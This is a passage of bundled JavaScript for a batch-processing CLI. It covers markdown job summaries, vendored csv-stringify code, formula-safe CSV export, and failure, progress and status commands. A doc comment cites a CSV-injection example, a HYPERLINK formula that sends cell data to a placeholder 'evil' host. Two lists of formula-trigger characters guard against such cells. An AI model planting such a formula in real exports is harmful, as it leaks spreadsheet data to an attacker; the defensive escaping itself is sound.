    const status = describeStopReason(thisRun.stopReason, totals.remaining);
    lines.push(`**${markdownText(status, 300)}**`, "");
    lines.push("| | Processed | Succeeded | Failed | Duration |");
    lines.push("| --- | ---: | ---: | ---: | ---: |");
    lines.push(`| This run | ${formatCount(thisRun.processed)} | ${formatCount(thisRun.succeeded)} | ${formatCount(thisRun.failed)} | ${formatDuration(thisRun.durationMs)} |`);
    lines.push("");
    lines.push("| Overall | Total | Done | Failed | Remaining | Progress |");
    lines.push("| --- | ---: | ---: | ---: | ---: | --- |");
    lines.push(`| All runs | ${formatCount(totals.total)} | ${formatCount(totals.done)} | ${formatCount(totals.failed)} | ${formatCount(totals.remaining)} | \`${progressBar(totals.done, totals.total)}\` ${formatPercent(totals.done, totals.total)} |`);
    lines.push("");
    if (thisRun.changed)
        lines.push(`${formatCount(thisRun.changed)} ${thisRun.changed === 1 ? "item" : "items"} changed since done, processed again (reprocess-changed).`, "");
    if (input.afterTotals)
        lines.push(input.afterTotals.trimEnd(), "");
    if (input.passes)
        lines.push(...renderPassesMarkdown(input.passes, input.runs, input.passNote));
    const source = describeStateSource(input.stateSource);
    const detail = input.stateSourceDetail ? ` (${markdownText(input.stateSourceDetail, 500)})` : "";
    lines.push(`${markdownText(source, 200)}${detail}`, "");
    lines.push(...renderResultsSection(input.results));
    lines.push("### Progress across runs", "");
    lines.push(...renderRunsTable(input.runs), "");
    lines.push(renderFailuresMarkdown(input.failures, { maxItems, maxGroups, headingLevel: 3 }).trimEnd(), "");
    if (input.retryHint && input.failures.length > 0) {
        lines.push("### Retrying failures", "");
        lines.push(truncateText(input.retryHint.replace(/\r\n?/g, "\n"), MAX_NOTE_CHARS), "");
    }
    return lines.join("\n");
}
function byteLength(text) {
    return Buffer.byteLength(text, "utf8");
}
/**
 * The run summary as markdown, for the GitHub job summary and the artifact's `summary.md`:
 * this run's counts and the overall ones, progress across the last runs, where state came
 * from (a warning block for a fresh start), the failure causes and first failed items, and
 * the retry hint.
 *
 * Always under `MAX_SUMMARY_BYTES` (GitHub refuses job summaries over 1 MiB): when the full
 * text is too large, fewer failed items and groups are listed, and as a last resort the
 * text is cut at a line boundary with a note.
 */
function renderRunSummaryMarkdown(input) {
    let maxItems = DEFAULT_MAX_ITEMS;
    let maxGroups = DEFAULT_MAX_GROUPS;
    let text = renderSummary(input, maxItems, maxGroups);
    while (byteLength(text) > MAX_SUMMARY_BYTES && (maxItems > 0 || maxGroups > 1)) {
        maxItems = Math.floor(maxItems / 2);
        maxGroups = Math.max(1, Math.floor(maxGroups / 2));
        text = renderSummary(input, maxItems, maxGroups);
    }
    return capMarkdownBytes(text, MAX_SUMMARY_BYTES);
}
/**
 * `text` unchanged when it fits in `maxBytes` of UTF-8; otherwise cut at a line boundary
 * (never inside a character) with a note saying so, the whole under `maxBytes`.
 */
function capMarkdownBytes(text, maxBytes = MAX_SUMMARY_BYTES) {
    if (byteLength(text) <= maxBytes)
        return text;
    const note = "\n\n> [!NOTE]\n> This summary was cut to stay under GitHub's 1 MiB job summary limit; every failure is in `failures.json` in the run's artifact.\n";
    const budget = Math.max(0, maxBytes - byteLength(note));
    let cut = Buffer.from(text, "utf8").subarray(0, budget).toString("utf8");
    // A cut inside a multi-byte character decodes to U+FFFD; drop it.
    cut = cut.replace(/\uFFFD$/, "");
    const lastNewline = cut.lastIndexOf("\n");
    if (lastNewline > 0)
        cut = cut.slice(0, lastNewline);
    return cut + note;
}

;// CONCATENATED MODULE: ./node_modules/csv-stringify/lib/utils/get.js
// Lodash implementation of `get`

const charCodeOfDot = ".".charCodeAt(0);
const reEscapeChar = /\\(\\)?/g;
const rePropName = RegExp(
  // Match anything that isn't a dot or bracket.
  "[^.[\\]]+" +
    "|" +
    // Or match property names within brackets.
    "\\[(?:" +
    // Match a non-string expression.
    "([^\"'][^[]*)" +
    "|" +
    // Or match strings (supports escaping characters).
    "([\"'])((?:(?!\\2)[^\\\\]|\\\\.)*?)\\2" +
    ")\\]" +
    "|" +
    // Or match "" as the space between consecutive dots or empty brackets.
    "(?=(?:\\.|\\[\\])(?:\\.|\\[\\]|$))",
  "g",
);
const reIsDeepProp = /\.|\[(?:[^[\]]*|(["'])(?:(?!\1)[^\\]|\\.)*?\1)\]/;
const reIsPlainProp = /^\w*$/;

const getTag = function (value) {
  // if (!value) value === undefined ? "[object Undefined]" : "[object Null]";
  return Object.prototype.toString.call(value);
};

const isSymbol = function (value) {
  const type = typeof value;
  return (
    type === "symbol" ||
    (type === "object" && value && getTag(value) === "[object Symbol]")
  );
};

const isKey = function (value, object) {
  if (Array.isArray(value)) {
    return false;
  }
  const type = typeof value;
  if (
    type === "number" ||
    type === "symbol" ||
    type === "boolean" ||
    !value ||
    isSymbol(value)
  ) {
    return true;
  }
  return (
    reIsPlainProp.test(value) ||
    !reIsDeepProp.test(value) ||
    (object != null && value in Object(object))
  );
};

const stringToPath = function (string) {
  const result = [];
  if (string.charCodeAt(0) === charCodeOfDot) {
    result.push("");
  }
  string.replace(rePropName, function (match, expression, quote, subString) {
    let key = match;
    if (quote) {
      key = subString.replace(reEscapeChar, "$1");
    } else if (expression) {
      key = expression.trim();
    }
    result.push(key);
  });
  return result;
};

const castPath = function (value, object) {
  if (Array.isArray(value)) {
    return value;
  } else {
    return isKey(value, object) ? [value] : stringToPath(value);
  }
};

const toKey = function (value) {
  if (typeof value === "string" || isSymbol(value)) return value;
  const result = `${value}`;
  return result == "0" && 1 / value == -Infinity ? "-0" : result;
};

const get = function (object, path) {
  path = castPath(path, object);
  let index = 0;
  const length = path.length;
  while (object != null && index < length) {
    object = object[toKey(path[index++])];
  }
  return index && index === length ? object : undefined;
};



;// CONCATENATED MODULE: ./node_modules/csv-stringify/lib/utils/is_object.js
const is_object_is_object = function (obj) {
  return typeof obj === "object" && obj !== null && !Array.isArray(obj);
};



;// CONCATENATED MODULE: ./node_modules/csv-stringify/lib/api/normalize_columns.js
const normalize_columns = function (columns) {
  if (columns === undefined || columns === null) {
    return [undefined, undefined];
  }
  if (typeof columns !== "object") {
    return [Error('Invalid option "columns": expect an array or an object')];
  }
  if (!Array.isArray(columns)) {
    const newcolumns = [];
    for (const k in columns) {
      newcolumns.push({
        key: k,
        header: columns[k],
      });
    }
    columns = newcolumns;
  } else {
    const newcolumns = [];
    for (const column of columns) {
      if (typeof column === "string") {
        newcolumns.push({
          key: column,
          header: column,
        });
      } else if (
        typeof column === "object" &&
        column !== null &&
        !Array.isArray(column)
      ) {
        if (!column.key) {
          return [
            Error('Invalid column definition: property "key" is required'),
          ];
        }
        if (column.header === undefined) {
          column.header = column.key;
        }
        newcolumns.push(column);
      } else {
        return [
          Error("Invalid column definition: expect a string or an object"),
        ];
      }
    }
    columns = newcolumns;
  }
  return [undefined, columns];
};



;// CONCATENATED MODULE: ./node_modules/csv-stringify/lib/api/CsvError.js
class CsvError_CsvError extends Error {
  constructor(code, message, ...contexts) {
    if (Array.isArray(message)) message = message.join(" ");
    super(message);
    if (Error.captureStackTrace !== undefined) {
      Error.captureStackTrace(this, CsvError_CsvError);
    }
    this.code = code;
    for (const context of contexts) {
      for (const key in context) {
        const value = context[key];
        this[key] = Buffer.isBuffer(value)
          ? value.toString()
          : value == null
            ? value
            : JSON.parse(JSON.stringify(value));
      }
    }
  }
}



;// CONCATENATED MODULE: ./node_modules/csv-stringify/lib/utils/underscore.js
const underscore_underscore = function (str) {
  return str.replace(/([A-Z])/g, function (_, match) {
    return "_" + match.toLowerCase();
  });
};



;// CONCATENATED MODULE: ./node_modules/csv-stringify/lib/api/normalize_options.js




const normalize_options_normalize_options = function (opts) {
  const options = {};
  // Merge with user options
  for (const opt in opts) {
    options[underscore_underscore(opt)] = opts[opt];
  }
  // Normalize option `bom`
  if (
    options.bom === undefined ||
    options.bom === null ||
    options.bom === false
  ) {
    options.bom = false;
  } else if (options.bom !== true) {
    return [
      new CsvError_CsvError("CSV_OPTION_BOOLEAN_INVALID_TYPE", [
        "option `bom` is optional and must be a boolean value,",
        `got ${JSON.stringify(options.bom)}`,
      ]),
    ];
  }
  // Normalize option `delimiter`
  if (options.delimiter === undefined || options.delimiter === null) {
    options.delimiter = ",";
  } else if (Buffer.isBuffer(options.delimiter)) {
    options.delimiter = options.delimiter.toString();
  } else if (typeof options.delimiter !== "string") {
    return [
      new CsvError_CsvError("CSV_OPTION_DELIMITER_INVALID_TYPE", [
        "option `delimiter` must be a buffer or a string,",
        `got ${JSON.stringify(options.delimiter)}`,
      ]),
    ];
  }
  // Normalize option `quote`
  if (options.quote === undefined || options.quote === null) {
    options.quote = '"';
  } else if (options.quote === true) {
    options.quote = '"';
  } else if (options.quote === false) {
    options.quote = "";
  } else if (Buffer.isBuffer(options.quote)) {
    options.quote = options.quote.toString();
  } else if (typeof options.quote !== "string") {
    return [
      new CsvError_CsvError("CSV_OPTION_QUOTE_INVALID_TYPE", [
        "option `quote` must be a boolean, a buffer or a string,",
        `got ${JSON.stringify(options.quote)}`,
      ]),
    ];
  }
  // Normalize option `quoted`
  if (options.quoted === undefined || options.quoted === null) {
    options.quoted = false;
  } else {
    // todo
  }
  // Normalize option `escape_formulas`
  if (
    options.escape_formulas === undefined ||
    options.escape_formulas === null
  ) {
    options.escape_formulas = false;
  } else if (typeof options.escape_formulas !== "boolean") {
    return [
      new CsvError_CsvError("CSV_OPTION_ESCAPE_FORMULAS_INVALID_TYPE", [
        "option `escape_formulas` must be a boolean,",
        `got ${JSON.stringify(options.escape_formulas)}`,
      ]),
    ];
  }
  // Normalize option `quoted_empty`
  if (options.quoted_empty === undefined || options.quoted_empty === null) {
    options.quoted_empty = undefined;
  } else {
    // todo
  }
  // Normalize option `quoted_match`
  if (
    options.quoted_match === undefined ||
    options.quoted_match === null ||
    options.quoted_match === false
  ) {
    options.quoted_match = null;
  } else if (!Array.isArray(options.quoted_match)) {
    options.quoted_match = [options.quoted_match];
  }
  if (options.quoted_match) {
    for (const quoted_match of options.quoted_match) {
      const isString = typeof quoted_match === "string";
      const isRegExp = quoted_match instanceof RegExp;
      if (!isString && !isRegExp) {
        return [
          new CsvError_CsvError("CSV_OPTION_QUOTED_MATCH", [
            "option `quoted_match` must be a string or a regex,",
            `got ${JSON.stringify(options.quoted_match)}`,
          ]),
        ];
      }
    }
  }
  // Normalize option `quoted_string`
  if (options.quoted_string === undefined || options.quoted_string === null) {
    options.quoted_string = false;
  } else {
    // todo
  }
  // Normalize option `eof`
  if (options.eof === undefined || options.eof === null) {
    options.eof = true;
  } else {
    // todo
  }
  // Normalize option `escape`
  if (options.escape === undefined || options.escape === null) {
    options.escape = '"';
  } else if (Buffer.isBuffer(options.escape)) {
    options.escape = options.escape.toString();
  } else if (typeof options.escape !== "string") {
    return [
      Error(
        `Invalid Option: escape must be a buffer or a string, got ${JSON.stringify(options.escape)}`,
      ),
    ];
  }
  if (options.escape.length > 1) {
    return [
      Error(
        `Invalid Option: escape must be one character, got ${options.escape.length} characters`,
      ),
    ];
  }
  // Normalize option `header`
  if (
    options.header === undefined ||
    options.header === null ||
    options.header === false
  ) {
    options.header = false;
  } else if (options.header !== true) {
    throw new CsvError_CsvError(
      "CSV_INVALID_OPTION_HEADER",
      [
        "option `header` is expected to be a boolean,",
        `got ${JSON.stringify(options.header)}`,
      ],
      options,
    );
  }
  // Normalize option `headers_as_comment`
  if (
    options.header_as_comment === undefined ||
    options.header_as_comment === null ||
    options.header_as_comment === false
  ) {
    options.header_as_comment = false;
  } else if (options.header_as_comment === true) {
    options.header_as_comment = "#";
  } else if (Buffer.isBuffer(options.header_as_comment)) {
    options.header_as_comment = options.header_as_comment.toString();
  } else if (typeof options.header_as_comment !== "string") {
    throw new CsvError_CsvError(
      "CSV_INVALID_OPTION_HEADER_AS_COMMENT",
      [
        "option `header_as_comment` must be a boolean, a string or a buffer,",
        `got ${JSON.stringify(options.header_as_comment)}`,
      ],
      options,
    );
  }
  // if (options.header_as_comment && !options.comment?.length) {
  //   throw new CsvError(
  //     "CSV_INVALID_OPTION_COMMENT",
  //     [
  //       "option `comment` must be a non empty string or buffer when using `header_as_comment`,",
  //       `got ${JSON.stringify(options.comment)}`,
  //     ],
  //     options,
  //   );
  // }
  // Header is always enabled with `header_as_comment`
  // if (options.header_as_comment === true) {
  //   options.header = true;
  // }
  // Normalize option `columns`
  const [errColumns, columns] = normalize_columns(options.columns);
  if (errColumns !== undefined) return [errColumns];
  options.columns = columns;
  // Normalize option `quoted`
  if (options.quoted === undefined || options.quoted === null) {
    options.quoted = false;
  } else {
    // todo
  }
  // Normalize option `cast`
  if (options.cast === undefined || options.cast === null) {
    options.cast = {};
  } else {
    // todo
  }
  // Normalize option cast.bigint
  if (options.cast.bigint === undefined || options.cast.bigint === null) {
    // Cast boolean to string by default
    options.cast.bigint = (value) => "" + value;
  }
  // Normalize option cast.boolean
  if (options.cast.boolean === undefined || options.cast.boolean === null) {
    // Cast boolean to string by default
    options.cast.boolean = (value) => (value ? "1" : "");
  }
  // Normalize option cast.date
  if (options.cast.date === undefined || options.cast.date === null) {
    // Cast date to timestamp string by default
    options.cast.date = (value) => "" + value.getTime();
  }
  // Normalize option cast.number
  if (options.cast.number === undefined || options.cast.number === null) {
    // Cast number to string using native casting by default
    options.cast.number = (value) => "" + value;
  }
  // Normalize option cast.object
  if (options.cast.object === undefined || options.cast.object === null) {
    // Stringify object as JSON by default
    options.cast.object = (value) => JSON.stringify(value);
  }
  // Normalize option cast.string
  if (options.cast.string === undefined || options.cast.string === null) {
    // Leave string untouched
    options.cast.string = function (value) {
      return value;
    };
  }
  // Normalize option `on_record`
  if (
    options.on_record !== undefined &&
    typeof options.on_record !== "function"
  ) {
    return [Error(`Invalid Option: "on_record" must be a function.`)];
  }
  // Normalize option `quote_record_delimiter`
  if (
    options.quote_record_delimiter === undefined ||
    options.quote_record_delimiter === null
  ) {
    options.quote_record_delimiter = !options.record_delimiter;
  } else if (typeof options.quote_record_delimiter !== "boolean") {
    return [
      new CsvError_CsvError("CSV_OPTION_QUOTE_RECORD_DELIMITER_INVALID_TYPE", [
        "option `quote_record_delimiter` must be a boolean,",
        `got ${JSON.stringify(options.quote_record_delimiter)}`,
      ]),
    ];
  }
  // Normalize option `record_delimiter`
  if (
    options.record_delimiter === undefined ||
    options.record_delimiter === null
  ) {
    options.record_delimiter = "\n";
  } else if (Buffer.isBuffer(options.record_delimiter)) {
    options.record_delimiter = options.record_delimiter.toString();
  } else if (typeof options.record_delimiter !== "string") {
    return [
      Error(
        `Invalid Option: record_delimiter must be a buffer or a string, got ${JSON.stringify(options.record_delimiter)}`,
      ),
    ];
  }
  switch (options.record_delimiter) {
    case "unix":
      options.record_delimiter = "\n";
      break;
    case "mac":
      options.record_delimiter = "\r";
      break;
    case "windows":
      options.record_delimiter = "\r\n";
      break;
    case "ascii":
      options.record_delimiter = "\u001e";
      break;
    case "unicode":
      options.record_delimiter = "\u2028";
      break;
  }
  return [undefined, options];
};



;// CONCATENATED MODULE: ./node_modules/csv-stringify/lib/api/index.js




const bom_utf8 = Buffer.from([239, 187, 191]);
// True when appending `separator` after `value` would let `parse` find
// `separator` starting inside `value`. Besides the field containing the whole
// separator, this also covers boundary fusion: a field whose tail is a
// non-empty prefix of a multi-character separator merges with the appended
// separator (eg value "a:" + delimiter "::" => "a:::", matched at offset 1).
// Such fields must be quoted to round-trip, like RFC 4180 fields containing the
// delimiter, generalized to multi-character delimiters and record delimiters.
const emits_separator = function (value, separators) {
  return separators.some(
    (separator) =>
      separator.length !== 0 &&
      (value.indexOf(separator) !== -1 ||
        (separator.length > 1 &&
          (value + separator).indexOf(separator) < value.length)),
  );
};
// True when `value` matches one of the `quoted_match` patterns. The regexps
// come from the user and the same objects are reused for every field, so the
// test must not depend on their state: `RegExp.prototype.test` advances
// `lastIndex` on a global or sticky regexp, which would make a match in one
// field move where the next field starts matching. `String.prototype.search`
// searches from the start and restores `lastIndex`, and is equivalent to
// `test` for the stateless regexps.
const matches_quoted_match = function (value, quoted_match) {
  if (!quoted_match) return false;
  return quoted_match.some((pattern) =>
    typeof pattern === "string"
      ? value.indexOf(pattern) !== -1
      : value.search(pattern) !== -1,
  );
};

const stringifier = function (options, state, info) {
  return {
    options: options,
    state: state,
    info: info,
    __transform: function (chunk, push) {
      // Chunk validation
      if (!Array.isArray(chunk) && typeof chunk !== "object") {
        return Error(
          `Invalid Record: expect an array or an object, got ${JSON.stringify(chunk)}`,
        );
      }
      // Detect columns from the first record
      if (this.info.records === 0) {
        if (Array.isArray(chunk)) {
          if (
            this.options.header === true &&
            this.options.columns === undefined
          ) {
            return Error(
              "Undiscoverable Columns: header option requires column option or object records",
            );
          }
        } else if (this.options.columns === undefined) {
          const [err, columns] = normalize_columns(Object.keys(chunk));
          if (err) return;
          this.options.columns = columns;
        }
      }
      // Emit the header
      if (this.info.records === 0) {
        this.bom(push);
        const err = this.headers(push);
        if (err) return err;
      }
      // Emit and stringify the record if an object or an array
      try {
        // this.emit('record', chunk, this.info.records);
        if (this.options.on_record) {
          this.options.on_record(chunk, this.info.records);
        }
      } catch (err) {
        return err;
      }
      // Convert the record into a string
      let err, chunk_string;
      if (this.options.eof) {
        [err, chunk_string] = this.stringify(chunk);
        if (err) return err;
        if (chunk_string === undefined) {
          return;
        } else {
          chunk_string = chunk_string + this.options.record_delimiter;
        }
      } else {
        [err, chunk_string] = this.stringify(chunk);
        if (err) return err;
        if (chunk_string === undefined) {
          return;
        } else {
          if (this.options.header || this.info.records) {
            chunk_string = this.options.record_delimiter + chunk_string;
          }
        }
      }
      // Emit the csv
      this.info.records++;
      push(chunk_string);
    },
    stringify: function (chunk, chunkIsHeader = false) {
      if (typeof chunk !== "object") {
        return [undefined, chunk];
      }
      const { columns } = this.options;
      const record = [];
      // Record is an array
      if (Array.isArray(chunk)) {
        // We are getting an array but the user has specified output columns. In
        // this case, we respect the columns indexes
        const length = columns
          ? Math.min(chunk.length, columns.length)
          : chunk.length;
        // Cast record elements
        for (let i = 0; i < length; i++) {
          const field = chunk[i];
          const [err, value] = this.__cast(field, {
            index: i,
            column: i,
            records: this.info.records,
            header: chunkIsHeader,
          });
          if (err) return [err];
          record[i] = [value, field];
        }
        // Record is a literal object
        // `columns` is always defined: it is either provided or discovered.
      } else {
        for (let i = 0; i < columns.length; i++) {
          const field = get(chunk, columns[i].key);
          const [err, value] = this.__cast(field, {
            index: i,
            column: columns[i].key,
            records: this.info.records,
            header: chunkIsHeader,
          });
          if (err) return [err];
          record[i] = [value, field];
        }
      }
      let csvrecord = "";
      for (let i = 0; i < record.length; i++) {
        let options, err;

        let [value, field] = record[i];
        if (typeof value === "string") {
          options = this.options;
        } else if (is_object_is_object(value)) {
          // Value is considerered as a mix of a value and options
          options = { ...value };
          value = options.value;
          delete options.value;
          if (
            typeof value !== "string" &&
            value !== undefined &&
            value !== null
          ) {
            if (err)
              return [
                Error(
                  `Invalid Casting Value: returned value must return a string, null or undefined, got ${JSON.stringify(value)}`,
                ),
              ];
          }
          // Merge global options with the ones returned by cast
          options = { ...this.options, ...options };
          [err, options] = normalize_options_normalize_options(options);
          if (err !== undefined) {
            return [err];
          }
        } else if (value === undefined || value === null) {
          options = this.options;
        } else {
          return [
            Error(
              `Invalid Casting Value: returned value must return a string, an object, null or undefined, got ${JSON.stringify(value)}`,
            ),
          ];
        }
        const {
          delimiter,
          escape,
          quote,
          quoted,
          quoted_empty,
          quoted_string,
          quoted_match,
          record_delimiter,
          quote_record_delimiter,
          escape_formulas,
        } = options;
        if ("" === value && "" === field) {
          const quotedMatch = matches_quoted_match(value, quoted_match);
          const shouldQuote =
            quotedMatch ||
            true === quoted_empty ||
            (true === quoted_string && false !== quoted_empty);
          if (shouldQuote === true) {
            value = quote + value + quote;
          }
          csvrecord += value;
        } else if (value) {
          if (typeof value !== "string") {
            return [
              Error(
                `Formatter must return a string, null or undefined, got ${JSON.stringify(value)}`,
              ),
            ];
          }
          const containsdelimiter = emits_separator(value, [delimiter]);
          const containsQuote = quote !== "" && value.indexOf(quote) >= 0;
          const containsEscape = value.indexOf(escape) >= 0 && escape !== quote;
          // Testing `\n` and `\r` covers the three sequences `parse` discovers
          const containsRecordDelimiter = emits_separator(value, [
            record_delimiter,
            ...(quote_record_delimiter === false ? [] : ["\n", "\r"]),
          ]);
          const quotedString = quoted_string && typeof field === "string";
          const quotedMatch = matches_quoted_match(value, quoted_match);
          // See https://github.com/adaltas/node-csv/pull/387
          // More about CSV injection or formula injection, when websites embed
          // untrusted input inside CSV files:
          // https://owasp.org/www-community/attacks/CSV_Injection
          // http://georgemauer.net/2017/10/07/csv-injection.html
          // Apple Numbers unicode normalization is empirical from testing
          if (escape_formulas) {
            switch (value[0]) {
              case "-":
                if (typeof field === "number" || typeof field === "bigint") {
                  break;
                }
                value = `'${value}`;
                break;
              case "=":
              case "+":
              case "@":
              case "\t":
              case "\r":
              case "\uFF1D": // Unicode '='
              case "\uFF0B": // Unicode '+'
              case "\uFF0D": // Unicode '-'
              case "\uFF20": // Unicode '@'
                value = `'${value}`;
                break;
            }
          }
          const shouldQuote =
            containsQuote === true ||
            containsdelimiter ||
            containsRecordDelimiter ||
            quoted ||
            quotedString ||
            quotedMatch;
          if (shouldQuote === true && containsEscape === true) {
            value = value.replaceAll(escape, () => escape + escape);
          }
          if (containsQuote === true) {
            value = value.replaceAll(quote, () => escape + quote);
          }
          if (shouldQuote === true) {
            value = quote + value + quote;
          }
          csvrecord += value;
        } else if (
          quoted_empty === true ||
          (field === "" && quoted_string === true && quoted_empty !== false)
        ) {
          csvrecord += quote + quote;
        }
        if (i !== record.length - 1) {
          csvrecord += delimiter;
        }
      }
      return [undefined, csvrecord];
    },
    bom: function (push) {
      if (this.options.bom !== true) {
        return;
      }
      push(bom_utf8);
    },
    headers: function (push) {
      if (this.options.header === false) {
        return;
      }
      if (this.options.columns === undefined) {
        return;
      }
      let err;
      let headers = this.options.columns.map((column) => column.header);
      if (this.options.eof) {
        [err, headers] = this.stringify(headers, true);
        headers += this.options.record_delimiter;
      } else {
        [err, headers] = this.stringify(headers, true);
      }
      if (err) return err;
      if (this.options.header_as_comment) {
        headers = this.options.header_as_comment + " " + headers;
      }
      push(headers);
    },
    __cast: function (value, context) {
      const type = typeof value;
      try {
        if (type === "string") {
          // Fine for 99% of the cases
          return [undefined, this.options.cast.string(value, context)];
        } else if (type === "bigint") {
          return [undefined, this.options.cast.bigint(value, context)];
        } else if (type === "number") {
          return [undefined, this.options.cast.number(value, context)];
        } else if (type === "boolean") {
          return [undefined, this.options.cast.boolean(value, context)];
        } else if (value instanceof Date) {
          return [undefined, this.options.cast.date(value, context)];
        } else if (type === "object" && value !== null) {
          return [undefined, this.options.cast.object(value, context)];
        } else if (value === null && this.options.cast.null !== undefined) {
          return [undefined, this.options.cast.null(value, context)];
        } else if (
          value === undefined &&
          this.options.cast.undefined !== undefined
        ) {
          return [undefined, this.options.cast.undefined(value, context)];
        } else {
          return [undefined, value];
        }
      } catch (err) {
        return [err];
      }
    },
  };
};



;// CONCATENATED MODULE: ./node_modules/csv-stringify/lib/sync.js
/*
CSV Stringify

Please look at the [Sync API](https://csv.js.org/stringify/api/sync/) for
additional information.
*/




const stringify = function (records, opts = {}) {
  const data = [];
  const [err, options] = normalize_options_normalize_options(opts);
  if (err !== undefined) throw err;
  const state = {
    stop: false,
  };
  // Information
  const info = {
    records: 0,
  };
  const api = stringifier(options, state, info);
  for (const record of records) {
    const err = api.__transform(record, function (record) {
      data.push(record);
    });
    if (err !== undefined) throw err;
  }
  if (data.length === 0) {
    api.bom((d) => {
      data.push(d);
    });
    const err = api.headers((headers) => {
      data.push(headers);
    });
    if (err !== undefined) throw err;
  }
  return data.join("");
};



;// CONCATENATED MODULE: ./src/report/csv.ts

/**
 * First characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell
 * as a formula, or that it strips before doing so: OWASP "CSV Injection"
 * (https://owasp.org/www-community/attacks/CSV_Injection). Ids and error texts come from
 * items and handlers, so a cell like `=HYPERLINK("http://evil/?"&A1)` is item data.
 */
const FORMULA_STARTS = new Set(["=", "+", "-", "@", "\t", "\r"]);
/**
 * A cell a spreadsheet shows as text: a string starting with one of FORMULA_STARTS gets a
 * leading `'` (the OWASP advice; spreadsheets hide the quote). Numbers and other cells are
 * left alone, so `attempts` stays a number.
 */
function formulaSafeCell(value) {
    return typeof value === "string" && value.length > 0 && FORMULA_STARTS.has(value[0]) ? `'${value}` : value;
}
/** CSV with a header row (csv-stringify quotes commas, quotes and newlines), every cell formula-safe. */
function formulaSafeCsv(columns, rows) {
    return stringify(rows.map((row) => row.map(formulaSafeCell)), { header: true, columns });
}

;// CONCATENATED MODULE: ./src/cli/failures-command.ts



const FAILURE_FORMATS = ["json", "csv", "markdown"];
const CSV_COLUMNS = ["id", "kind", "attempts", "firstFailedAt", "lastFailedAt", "error", "item"];
const CSV_ROWS_PER_PIECE = 1000;
/** `resumable-batch failures`: the failed items, regenerated from state. */
function failuresCommand(stateDir, format, io) {
    const { state } = requireState(stateDir);
    const file = buildFailuresFile(state);
    switch (format) {
        case "json":
            writeInPieces(io, (write) => writeFailuresJson(file, write));
            break;
        case "csv":
            writeInPieces(io, (write) => {
                // A thousand rows at a time: each row carries its item, and all of them may not fit one string.
                for (let i = 0; i === 0 || i < file.failures.length; i += CSV_ROWS_PER_PIECE) {
                    const rows = file.failures
                        .slice(i, i + CSV_ROWS_PER_PIECE)
                        .map((f) => [f.id, f.kind, f.attempts, f.firstFailedAt, f.lastFailedAt, f.error, JSON.stringify(f.item)]);
                    const csv = formulaSafeCsv(CSV_COLUMNS, rows);
                    write(i === 0 ? csv : csv.slice(csv.indexOf("\n") + 1)); // the header once
                }
            });
            break;
        case "markdown":
            io.stdout.write(file.failures.length === 0 ? "No failed items.\n" : renderFailuresMarkdown(file.failures) + "\n");
            break;
    }
    return 0;
}
/** Writes to stdout in pieces of about 1 MiB: the whole text may be larger than one string. */
function writeInPieces(io, produce) {
    let buffer = "";
    produce((text) => {
        buffer += text;
        if (buffer.length >= 1 << 20) {
            io.stdout.write(buffer);
            buffer = "";
        }
    });
    if (buffer.length > 0)
        io.stdout.write(buffer);
}

;// CONCATENATED MODULE: ./src/cli/progress-display.ts

/**
 * Progress for people: on a terminal, one bar redrawn in place with rate and ETA; in a
 * log (CI, a pipe), a line every few seconds. Log messages clear the bar first, so the
 * two never interleave on one line.
 */
class ProgressDisplay {
    out;
    isTty;
    logEveryMs;
    nowMs;
    barShown = false;
    lastLogAtMs = 0;
    constructor(out, isTty, logEveryMs = 5000, nowMs = Date.now) {
        this.out = out;
        this.isTty = isTty;
        this.logEveryMs = logEveryMs;
        this.nowMs = nowMs;
    }
    update(p) {
        if (this.isTty) {
            this.out.write(`\r${renderBar(p, this.out.columns ?? 80)}\x1b[K`);
            this.barShown = true;
            return;
        }
        const now = this.nowMs();
        if (now - this.lastLogAtMs < this.logEveryMs && p.left > 0)
            return;
        this.lastLogAtMs = now;
        this.out.write(`${renderLogLine(p)}\n`);
    }
    /** Ends the bar's line so what follows starts on a fresh one. */
    finish() {
        if (this.barShown)
            this.out.write("\n");
        this.barShown = false;
    }
    info(message) {
        this.write(message);
    }
    warn(message) {
        this.write(`warning: ${message}`);
    }
    error(message) {
        this.write(`error: ${message}`);
    }
    write(message) {
        if (this.barShown)
            this.out.write("\r\x1b[K");
        this.out.write(message + "\n");
        this.barShown = false;
    }
}
function renderLogLine(p) {
    const finished = p.succeeded + p.failed;
    return `progress: ${finished}/${p.total} (${p.succeeded} ok, ${p.failed} failed), ${p.left} left, ${p.ratePerSec.toFixed(1)} items/s, ETA ${p.etaMs === undefined ? "?" : formatDurationMs(p.etaMs)}`;
}
function renderBar(p, columns) {
    const finished = p.succeeded + p.failed;
    const fraction = p.total === 0 ? 1 : finished / p.total;
    const tail = ` ${Math.floor(fraction * 100)}% ${finished}/${p.total} ✓${p.succeeded} ✗${p.failed} ${p.ratePerSec.toFixed(1)}/s ETA ${p.etaMs === undefined ? "?" : formatDurationMs(p.etaMs)}`;
    const width = Math.max(10, Math.min(40, columns - tail.length - 3));
    const filled = Math.round(fraction * width);
    return `[${"█".repeat(filled)}${"░".repeat(width - filled)}]${tail}`;
}

;// CONCATENATED MODULE: ./src/shared/process-stop-source.ts
/**
 * This process's SIGINT and SIGTERM as the engine's stop source, for both adapters. While
 * subscribed, Node no longer exits on these signals: the engine decides how to stop.
 * Listeners are removed when unsubscribed.
 */
function processStopSource() {
    return {
        subscribe(listener) {
            const onInt = () => listener("SIGINT");
            const onTerm = () => listener("SIGTERM");
            process.on("SIGINT", onInt);
            process.on("SIGTERM", onTerm);
            return () => {
                process.off("SIGINT", onInt);
                process.off("SIGTERM", onTerm);
            };
        },
    };
}

;// CONCATENATED MODULE: ./src/cli/status-command.ts

/** `resumable-batch status`: what a state folder holds, read without taking its lock. */
function statusCommand(stateDir, asJson, io) {
    const { state, warnings } = requireState(stateDir);
    const byKind = {};
    for (const f of state.failures.values())
        byKind[f.kind] = (byKind[f.kind] ?? 0) + 1;
    const lastRun = state.runs[state.runs.length - 1];
    const lastNormal = state.lastNormalRun();
    const holder = liveLockHolder(stateDir);
    // A run going on now has not ended: its record has no stop reason yet.
    const running = holder ? { pid: holder.pid, startedAt: holder.startedAt } : undefined;
    const status = {
        stateDir,
        done: state.doneCount,
        failed: state.failures.size,
        failedByKind: byKind,
        total: lastNormal?.total,
        remaining: lastNormal?.remaining,
        runs: state.runs.length,
        seq: state.origin.seq,
        lastRun,
        pass: state.pass,
        passStartedAt: state.passStartedAt,
        passCompletedAt: state.passCompletedAt,
        nextPassAfter: nextPassAfter(state, state.repeatMs),
        passes: passHistory(state),
        ...(running ? { running } : {}),
    };
    for (const w of warnings)
